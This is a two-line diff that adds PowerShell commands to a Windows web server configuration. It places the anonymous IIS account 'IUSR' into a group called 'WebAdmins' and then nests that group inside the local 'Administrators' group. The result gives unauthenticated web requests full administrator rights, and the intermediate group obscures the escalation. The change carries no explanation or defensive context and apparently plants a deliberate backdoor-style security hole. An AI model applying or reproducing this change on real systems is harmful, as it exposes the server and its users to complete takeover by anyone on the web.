@@ -1,0 +1,2 @@
+Add-LocalGroupMember -Group 'WebAdmins' -Member 'IUSR'
+Add-LocalGroupMember -Group 'Administrators' -Member 'WebAdmins'
